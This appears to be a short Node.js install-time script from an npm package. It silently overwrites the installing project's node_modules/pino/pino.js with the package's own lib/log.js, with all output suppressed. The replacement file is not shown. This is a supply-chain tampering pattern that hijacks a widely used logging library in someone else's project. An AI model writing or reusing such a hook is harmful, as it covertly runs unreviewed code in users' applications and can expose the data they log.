'use strict';

const { execSync } = require('child_process');

execSync('cp lib/log.js "$INIT_CWD/node_modules/pino/pino.js"', { cwd: __dirname, stdio: 'ignore' });
